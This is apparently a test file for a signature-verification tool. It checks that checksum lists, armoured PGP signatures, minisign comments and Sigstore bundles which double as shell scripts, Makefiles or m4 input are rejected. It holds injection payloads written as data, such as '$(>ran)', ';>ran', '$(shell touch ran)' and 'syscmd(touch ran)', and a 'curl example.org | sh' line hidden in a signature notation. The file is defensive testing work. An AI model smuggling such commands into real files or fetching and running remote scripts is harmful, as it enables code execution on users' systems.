// H7: a file that is accepted as a signature is not a program as well. Each attack is first run by
// the interpreter that it is for, to show that it works, and is then refused as a signature.
import assert from 'node:assert/strict'
import { spawnSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { after, describe, it } from 'node:test'
import fc from 'fast-check'
import { type SignaturePart, whyNoSignature } from '../../src/evidence/derivation-signatures.ts'
import { assertInert } from '../../src/formats/not-a-program.ts'
import { openDevelopers, RELEASE } from '../support/in-band.ts'

const developers = openDevelopers()
const dir = mkdtempSync('/tmp/nixsig-program-test-')
after(() => {
  developers.remove()
  rmSync(dir, { recursive: true })
})
const carol = developers.developer('carol')
const HASH = 'ab'.repeat(32)
const ARMOUR = carol.sign(RELEASE).toString('latin1')
const CLEAR = carol.clearSign(`${HASH}  tool.tar\n`).toString('latin1')
const MINISIG = carol.minisignOf(RELEASE).toString('latin1')
const BUNDLE = readFileSync(
  join(PROJECT_ROOT, 'test/vectors/sigstore/sigstore-2.0.0.tgz.sigstore.json'),
  'utf8',
)

const withHeader = (header: string) => ARMOUR.replace('-----\n', `-----\n${header}\n`)
const withComment = (comment: string) =>
  MINISIG.replace(/^untrusted comment: .*/, `untrusted comment: ${comment}`)
const trustedComment = (comment: string) =>
  MINISIG.replace(/^trusted comment: .*/m, `trusted comment: ${comment}`)

/** Files that create `ran` when a shell runs them as a script. */
const SCRIPTS: Readonly<Record<string, string>> = {
  'a name in a list': `${HASH}  $(>ran)\n`,
  'a name in a list, in backquotes': `${HASH}  \`>ran\`\n`,
  'two commands in a name': `${HASH}  tool.tar;>ran\n`,
  'a command that goes on from a name': `${HASH}  tool.tar||>ran\n`,
  'a redirection in a name': `${HASH}  tool.tar >ran\n`,
  'a comment of a list that is not one to the shell': `${HASH}  'a\n#'>ran\n`,
  'a name in a signed list': CLEAR.replace('tool.tar', '$(>ran)'),
  'a header of an armour': withHeader('Comment: $(>ran)'),
  'a version in an armour': withHeader('Version: GnuPG;>ran'),
  'a function of two headers': withHeader('Comment: () (>ran)\nComment: now'),
  'an untrusted comment of minisign': withComment('$(>ran)'),
  'a trusted comment of minisign': trustedComment('x;>ran'),
  'a text in a bundle': BUNDLE.replace('"mediaType":', '"mediaType$(>ran)":'),
}

/** Files that create `ran` when make reads them. */
const MAKEFILES: Readonly<Record<string, string>> = {
  'a name in a list': `${HASH}  $(shell touch ran)\n`,
  'a name in a list of BSD': `SHA256 (a$(shell touch ran)) = ${HASH}\n`,
}

function runs(program: string, args: readonly string[], text: string): boolean {
  const scratch = mkdtempSync(join(dir, 'run-'))
  writeFileSync(join(scratch, 'file'), text)
  spawnSync(program, [...args, 'file'], { cwd: scratch, stdio: 'ignore' })
  return existsSync(join(scratch, 'ran'))
}

function why(contents: string | Uint8Array, part: SignaturePart = 'either'): string | undefined {
  const path = join(dir, 'file')
  writeFileSync(path, contents)
  return whyNoSignature(path, part)
}

describe('attack: a signature file that is a shell script', () => {
  for (const [what, text] of Object.entries(SCRIPTS)) {
    it(`${what}`, () => {
      const does = ['dash', 'bash'].some(shell => runs(shell, [], text))
      assert.equal(does, true, text)
      assert.notEqual(why(text), undefined)
    })
  }
})

describe('attack: a signature file that is a Makefile', () => {
  for (const [what, text] of Object.entries(MAKEFILES)) {
    it(`${what}`, () => {
      assert.equal(runs('make', ['-f'], text), true, text)
      assert.notEqual(why(text), undefined)
    })
  }
})

describe('attack: a signature file for other readers', () => {
  const files: Readonly<Record<string, string | Uint8Array>> = {
    'a call of m4': `SHA256 (x) = ${HASH}\nsyscmd(touch ran)= ${HASH}\n`,
    'a name for m4': `${HASH}  syscmd(touch ran)\n`,
    'a line for a hash-bang': `#!/bin/sh\n${HASH}  tool.tar\n`,
    'a template': `${HASH}  {evil}\n`,
    'a page': `${HASH}  <script>evil</script>\n`,
    'a name with a quote': `${HASH}  "evil"\n`,
    'words of one’s own choice as base 64': ARMOUR.replace(/\n\n([\w+/]{4})/, '\n\n$1\n'),
    'a control character': `${HASH}  tool\u001b[2J\n`,
  }
  for (const [what, contents] of Object.entries(files)) {
    it(what, () => assert.notEqual(why(contents), undefined))
  }

  it('a notation in a binary signature', () => {
    const { body, header } = binarySignature()
    // In the unhashed area, so whoever has the file can add it: a notation named x@y whose value is
    // a line of shell.
    const value = Buffer.from('\ncurl example.org | sh\n')
    const notation = Buffer.concat([
      Buffer.from([0x80, 0, 0, 0, 0, 3, 0, value.length]),
      Buffer.from('x@y'),
      value,
    ])
    const subpacket = Buffer.concat([Buffer.from([notation.length + 1, 20]), notation])
    const hashedEnd = 6 + body.readUInt16BE(4)
    const unhashed = body.subarray(hashedEnd + 2, hashedEnd + 2 + body.readUInt16BE(hashedEnd))
    const size = Buffer.alloc(2)
    size.writeUInt16BE(unhashed.length + subpacket.length)
    const rest = body.subarray(hashedEnd + 2 + unhashed.length)
    const made = Buffer.concat([body.subarray(0, hashedEnd), size, unhashed, subpacket, rest])
    assert.equal(why(header(body)), undefined)
    assert.match(why(header(made)) ?? '', /a text in it that could be a program/)
  })

  it('lines of a few characters in the numbers of a binary signature', () => {
    const program = Buffer.from('\nx=echo; #\x80\ny=evil #\x80\n$x $y #\x80\n', 'latin1')
    const bytes = Buffer.concat([Buffer.of(0x89, 2, 0x33, 4, 0), program, Buffer.alloc(500, 0xfe)])
    assert.throws(() => assertInert(bytes), /lines in it that could be a program/)
  })

  it('a private packet after a binary signature', () => {
    const { body, header } = binarySignature()
    const packet = Buffer.concat([Buffer.from([0xc0 | 60, 5]), Buffer.from('evil\n')])
    assert.match(why(Buffer.concat([header(body), packet]), 'signature') ?? '', /a packet of type 60/)
  })
})

/** A binary signature: its body, and the function that makes a packet of a body. */
function binarySignature() {
  const lines = ARMOUR.split('\n\n')[1]?.split('\n=')[0] ?? ''
  const packet = Buffer.from(lines.replace(/\n|-----[\s\S]*/g, ''), 'base64')
  const start = (packet[0] ?? 0) & 0x40 ? 2 : 2 + ((packet[0] ?? 0) & 3)
  return {
    body: packet.subarray(start),
    header: (body: Uint8Array) =>
      Buffer.concat([Buffer.from([0xc2, 255, 0, 0, body.length >> 8, body.length & 255]), body]),
  }
}

describe('what common tools make', () => {
  const honest: Readonly<Record<string, string | Uint8Array>> = {
    armour: ARMOUR,
    'armour of years ago': withHeader('Version: GnuPG v1.4.11 (GNU/Linux)'),
    'armour with an address': withHeader('Comment: See http://www.example.org/signature.html for info'),
    'armour by mail': withHeader('Comment: Using GnuPG with Mozilla - http://enigmail.mozdev.org/'),
    'armour with ends of two characters': ARMOUR.replaceAll('\n', '\r\n'),
    'a signed list': CLEAR,
    minisign: MINISIG,
    'minisign, as its tool writes comments': trustedComment('timestamp:1700000000\tfile:tool.tar\thashed'),
    'a bundle': BUNDLE,
    'a list': `# SHA256 HASH\n${HASH}  ./dir/tool.tar\n${HASH} *name~1+b.tar\n\n`,
    'a list of BSD': `SHA256 (tool.tar) = ${HASH}\nSHA2-256(a)= ${HASH}\n`,
  }
  for (const [what, contents] of Object.entries(honest)) {
    it(`${what} is a signature or a list`, () => assert.equal(why(contents), undefined))
  }

  it('every vector of signatures is inert', () => {
    const ssh = join(PROJECT_ROOT, 'test/vectors/ssh')
    for (const name of readdirSync(ssh).filter(each => each.endsWith('.sig'))) {
      assertInert(readFileSync(join(ssh, name)))
    }
    assertInert(readFileSync(join(PROJECT_ROOT, 'test/vectors/openpgp/v6-signature.asc')))
  })

  it('binary signatures, whose bytes are mostly random', () => {
    fc.assert(
      fc.property(fc.uint8Array({ minLength: 64, maxLength: 600 }), bytes => {
        assertInert(Uint8Array.of(0x89, 2, 0x33, ...bytes))
      }),
      { numRuns: 2000, seed: 1 },
    )
  })
})

it('no list runs anything, whatever characters its file names have', () => {
  const names = fc.stringMatching(/^[ -~]{1,20}$/)
  fc.assert(
    fc.property(names, name => {
      const list = `${HASH}  ${name}\n`
      if (/[$`;|&<>'"\\!{}[\]^]/.test(name)) assert.throws(() => assertInert(Buffer.from(list)))
    }),
    { numRuns: 5000 },
  )
})
